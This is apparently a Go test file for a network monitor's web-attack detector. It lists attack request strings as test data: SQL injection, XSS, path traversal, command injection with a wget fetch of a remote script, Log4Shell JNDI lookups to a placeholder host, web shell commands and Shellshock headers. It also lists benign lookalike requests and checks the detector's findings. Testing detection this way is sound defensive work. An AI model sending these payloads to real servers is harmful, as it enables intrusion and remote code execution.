package webattack

import (
	"context"
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/picketwatch/picket/plugins/detectors/internal/heap"
	"github.com/picketwatch/picket/plugins/detectors/internal/savedtest"
	"github.com/picketwatch/picket/plugins/detectors/internal/shared"
	"github.com/picketwatch/picket/plugins/detectors/internal/talk"
	"github.com/picketwatch/picket/plugins/internal/plugintest"
	"github.com/picketwatch/picket/sdk"
	"github.com/picketwatch/picket/sdk/config"
	"github.com/picketwatch/picket/sdk/sdktest"
)

func TestPage(t *testing.T) { plugintest.Page(t, "picket/web-attack") }

func TestConformance(t *testing.T) { sdktest.Run(t, Plugin(), sdktest.Options{}) }

func TestCases(t *testing.T) { sdktest.Cases(t, Plugin(), "testdata") }

type sink struct{ findings []sdk.Finding }

func (s *sink) Finding(f sdk.Finding) error {
	s.findings = append(s.findings, f)
	return nil
}

func detector(tb testing.TB, text string) *Detector {
	tb.Helper()
	d := &Detector{}
	if err := config.Decode([]byte(text), d.Config()); err != nil {
		tb.Fatal(err)
	}
	if err := d.Start(context.Background(), nil); err != nil {
		tb.Fatal(err)
	}
	return d
}

var (
	noon   = time.Date(2026, 3, 2, 12, 0, 0, 0, time.UTC)
	client = netip.MustParseAddr("203.0.113.66")
	server = netip.MustParseAddr("10.0.0.80")
)

func get(i int, target string, status uint16, headers ...string) sdk.HTTP {
	return sdk.HTTP{Seen: sdk.Seen{Flow: uint64(i + 1), Packet: uint64(i + 1), Time: noon.Add(time.Duration(i) * time.Second), Client: client, Server: server, ClientPort: 40000,
		ServerPort: 80, Proto: sdk.ProtoTCP}, Method: "GET", Host: "www.example.org", Target: target, Status: status, RequestHeaders: headers}
}

// attacks are by what they try.
var attacks = map[uint32][]string{
	sql: {"/item?id=1%27%20OR%20%271%27%3D%271", "/item?id=1+or+1=1", "/item?id=1%20UNION%20ALL%20SELECT%20null,2", "/item?id=1/**/union/**/select/**/1", "/item?id=1%2527%2520and%25201%253D2",
		"/item?id=1);waitfor delay '0:0:5'--", "/login?user=admin'--", "/item?id=1 and sleep(5)", "/x?id=(select group_concat(a) from information_schema.tables)", "/item?q=%u0027%20or%20%u0027a%u0027=%u0027a"},
	xss: {"/q?s=%3Cscript%3Ealert(1)%3C/script%3E", "/q?s=<img src=x onerror=alert(1)>", "/q?s=%22%3E%3Csvg/onload=alert(1)%3E", "/q?s=&lt;script&gt;alert(1)", "/q?u=javascript:alert(1)", "/q?s=<a <1<img src=x onerror=y>", "/q?s=<1<b<i onclick=y", "/q?s=&#60;script>", "/q?s=<b onmouseover = x>"},
	traversal: {"/view?file=../../../../etc/passwd", "/..%2f..%2f..%2fetc/hostname", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/x", "/view?f=..%5c..%5c..%5cboot", "/view?f=php://filter/convert.base64-encode/resource=index",
		"/%252e%252e/%252e%252e/x", "/view?p=/etc/passwd%00.png"},
	command: {"/ping?host=127.0.0.1;cat+/etc/group", "/ping?host=1%7Cwhoami", "/ping?host=$(id)", "/ping?host=%60uname%60", "/ping?h=1%26%26ls+-la", "/x?cmd=%0aid;", "/x?a=1||%0a%7C+id;", "/x?a=1%26%26%26%26id;", "/setup?todo=;wget+http://192.0.2.1/a.sh",
		"/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=phpinfo"},
	jndi:     {"/?x=${jndi:ldap://192.0.2.1/a}", "/?x=%24%7Bjndi%3Armi%3A%2F%2F192.0.2.1%7D", "/?x=${${lower:j}ndi:${lower:l}dap://192.0.2.1}", "/?x=${${::-j}${::-n}di:dns://192.0.2.1}"},
	webshell: {"/uploads/image.php?cmd=whoami", "/x/up.jsp?cmd=cat+a", "/shell.aspx?c=net+user"},
}

// ordinary are addresses that are none, though they look a little like it.
var ordinary = []string{
	"/", "/index.html?a=1&b=2", "/search?q=salt+and+pepper", "/search?q=rock+%26+roll+or+jazz", "/a/../b.css", "/css/../../x/y/../z", "/?q=select+a+union", "/search?q=student+union+select+committee+2019+or",
	"/fonts?family=Open+Sans:400,700|Roboto", "/page;jsessionid=0A1B2C", "/a?x=O'Brien", "/wiki/C%2B%2B_(language)", "/api?filter=%7B%22id%22%3A1%7D", "/p?d=2024-01-01--2024-02-01", "/t?u=https%3A%2F%2Fexample.org%2F%3Fa%3D1",
	"/s?q=how+to+use+sleep+in+bash", "/x?expr=a%3Cb", "/q?s=1+%3C+2+and+3+%3E+1", "/x?t=%3Cb%3Ebold%3C/b%3E", "/ad?cb=1;ord=123?", "/x?name=cat|dog", "/i?items=id;name;type", "/img/..%2fa.png/b", "/?tpl=${name}", "/q?s=AT%26T",
	"/search?q=%22or+%22", "/p?command=list", "/x.php?c=12&exec=0", "/x.php?cmd=view", "/a?b=function(x)", "/m?sort=price+desc,id+asc", "/d?range=1..10", "/v?ids=1,2,3&order=5=5",
}

func TestSigns(t *testing.T) {
	d := detector(t, "{}")
	for want, list := range attacks {
		for _, target := range list {
			r := get(0, target, 404)
			if got := d.exchange(&r); got&want == 0 {
				t.Errorf("%s: %s is not among %#x", target, tried(want), got)
			}
		}
	}
	for _, target := range ordinary {
		r := get(0, target, 200, "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko/20100101", "Cookie: a=b; c=d'e", "Referer: https://www.example.org/?q=a+or+b")
		if got := d.exchange(&r); got != 0 {
			t.Errorf("%s: %s", target, tried(got))
		}
	}
	for header, want := range map[string]uint32{
		"User-Agent: () { :;}; /bin/bash -c 'id'": shellshock, "X-Api-Version: ${jndi:ldap://192.0.2.1/a}": jndi, "User-Agent: sqlmap/1.7": scanner, "Cookie: id=1' or '1'='1": sql,
		"Referer: <script>alert(1)</script>": xss, "User-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": 0,
	} {
		r := get(0, "/", 200, header)
		if got := d.exchange(&r); got != want {
			t.Errorf("%s: %s", header, tried(got))
		}
	}
	for text, want := range map[string]uint32{"id=1'+or+'1'='1&x=2": sql, "name=ada&text=hello+world": 0, `{"a": "${jndi:ldap://x"}`: jndi, "host=1;cat /etc/group": command} {
		if got := d.body([]byte(text)); got != want {
			t.Errorf("%s: %s", text, tried(got))
		}
	}
}

func tried(signs uint32) string {
	var out []string
	for i, word := range words {
		if signs&(1<<i) != 0 {
			out = append(out, word)
		}
	}
	return strings.Join(out, ", ")
}

// One source and one server are one finding, whatever is tried, and worse the more there is to it.
func TestFindings(t *testing.T) {
	many := func(n int, target string, status uint16) (out []sdk.HTTP) {
		for i := range n {
			out = append(out, get(i, fmt.Sprint(target, "&n=", i), status))
		}
		return out
	}
	for name, c := range map[string]struct {
		list   []sdk.HTTP
		config string
		want   string
	}{
		"one that was refused":  {many(1, attacks[sql][0], 404), "{}", "low 0.4 [T1190] 203.0.113.66 tried to break into the web server 10.0.0.80:80: SQL injection"},
		"no answer":             {many(1, attacks[sql][0], 0), "{}", "low 0.5 [T1190] 203.0.113.66 tried to break into the web server 10.0.0.80:80: SQL injection"},
		"one that went through": {many(1, attacks[traversal][0], 200), "{}", "medium 0.65 [T1190] 203.0.113.66 tried to break into the web server 10.0.0.80:80: path traversal, which was"},
		"two kinds":             {append(many(1, attacks[sql][0], 404), get(5, attacks[traversal][0], 404)), "{}", "medium 0.6 [T1190] 203.0.113.66 tried to break into the web server 10.0.0.80:80: SQL injection, path traversal, in 2 requests"},
		"a scan":                {many(30, attacks[sql][0], 404), "{}", "medium 0.6 [T1190] 203.0.113.66 scans the web server 10.0.0.80:80: SQL injection, in 30 requests"},
		"a shell":               {many(1, attacks[webshell][0], 200), "{}", "high 0.75 [T1505.003] 203.0.113.66 tried to break into the web server 10.0.0.80:80: orders to a web shell"},
		"who may":               {many(1, attacks[sql][0], 200), `{"clients": ["203.0.113.0/24"]}`, ""},
		"where it may be done":  {many(1, attacks[sql][0], 200), `{"servers": ["10.0.0.80/32"]}`, ""},
	} {
		d, s := detector(t, c.config), &sink{}
		if err := d.Inspect(t.Context(), sdk.Batch{HTTP: c.list}, s); err != nil {
			t.Fatal(err)
		}
		if err := d.Flush(t.Context(), s); err != nil {
			t.Fatal(err)
		}
		got, ids := "", map[string]bool{}
		for _, f := range s.findings {
			ids[sdk.FindingID(f)] = true
			got = fmt.Sprint(f.Severity, " ", f.Confidence, " ", f.Techniques, " ", f.Summary)
		}
		if c.want == "" && got != "" || !strings.HasPrefix(got, c.want) || len(ids) > 1 {
			t.Errorf("%s: %d findings, %s", name, len(ids), got)
		}
	}
}

func TestAStateIsHandedOn(t *testing.T) {
	first, second, s := detector(t, "{}"), detector(t, "{}"), &sink{}
	for i, target := range []string{attacks[sql][0], attacks[traversal][0]} {
		if err := first.Inspect(t.Context(), sdk.Batch{HTTP: []sdk.HTTP{get(i, target, 200)}}, s); err != nil {
			t.Fatal(err)
		}
	}
	state, err := first.Snapshot(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if err := second.Restore(t.Context(), state); err != nil {
		t.Fatal(err)
	}
	savedtest.HandsOn(t, second, detector(t, "{}"))
	if second.issues.Len() != 1 || second.Restore(t.Context(), state[:len(state)-1]) == nil {
		t.Errorf("%d matters", second.issues.Len())
	}
}

func TestMemoryIsBounded(t *testing.T) {
	d, s := detector(t, `{"max_findings": 64}`), &sink{}
	for i := range 5000 {
		r := get(i, attacks[sql][0], 404)
		r.Client = heap.Addr(10, i)
		if err := d.Inspect(t.Context(), sdk.Batch{HTTP: []sdk.HTTP{r}}, s); err != nil {
			t.Fatal(err)
		}
	}
	if n := d.issues.Len(); n != 64 || d.issues.Forgotten == 0 {
		t.Errorf("%d matters, %d forgotten", n, d.issues.Forgotten)
	}
}

// TestSharedCaptures asks for silence in ordinary captures.
func TestSharedCaptures(t *testing.T) {
	shared.Each(t, Plugin().Subscription, func(t *testing.T, c *shared.Capture) {
		t.Helper()
		d, s := detector(t, "{}"), &sink{}
		c.Batches(t, func(b sdk.Batch) error { return d.Inspect(t.Context(), b, s) })
		if err := d.Flush(t.Context(), s); err != nil {
			t.Fatal(err)
		}
		for _, f := range s.findings {
			t.Logf("%s %s %v confidence %.2f: %s", c.Class, f.Severity, f.Techniques, f.Confidence, f.Summary)
		}
		if c.Benign() && len(s.findings) > 0 {
			t.Errorf("%s: %d findings", c.Class, len(s.findings))
		}
	})
}

func FuzzNormal(f *testing.F) {
	for _, list := range attacks {
		for _, target := range list {
			f.Add(target)
		}
	}
	d := detector(f, "{}")
	f.Fuzz(func(t *testing.T, target string) {
		r := get(0, target, 200, "User-Agent: "+target, "Cookie: "+target)
		d.exchange(&r)
		d.body([]byte(target))
		if len(d.text) > maxText {
			t.Fatalf("%d bytes", len(d.text))
		}
	})
}

func BenchmarkBrowsing(b *testing.B) {
	d := detector(b, "{}")
	var list []sdk.HTTP
	for i, target := range ordinary {
		list = append(list, get(i, target, 200, "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko/20100101", "Accept: */*", "Cookie: a=b; c=d"))
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		d.exchange(&list[i%len(list)])
	}
}

func TestCapturesAreFresh(t *testing.T) {
	talk.Fresh(t, map[string]func(*talk.Wire){"attacks": tries, "quiet": quiet})
}

func request(w *talk.Wire, at time.Duration, target, header string, status int) {
	w.TCP(at, client, server, 80, talk.Client("GET "+target+" HTTP/1.1\r\nHost: www.example.org\r\n"+header+"\r\n"),
		talk.Server(fmt.Sprintf("HTTP/1.1 %d X\r\nContent-Length: 2\r\n\r\nok", status)))
}

func tries(w *talk.Wire) {
	request(w, 0, "/item?id=1%27%20OR%20%271%27%3D%271", "", 500)
	request(w, time.Second, "/view?file=../../../../etc/passwd", "", 200)
	request(w, 2*time.Second, "/", "X-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n", 200)
	request(w, 3*time.Second, "/cgi-bin/status", "User-Agent: () { :;}; echo vulnerable\r\n", 404)
}

func quiet(w *talk.Wire) {
	for i, target := range []string{"/", "/search?q=salt+and+pepper", "/fonts?family=Open+Sans|Roboto", "/p?name=O%27Brien"} {
		request(w, time.Duration(i)*time.Second, target, "User-Agent: Mozilla/5.0 (X11; Linux)\r\n", 200)
	}
}
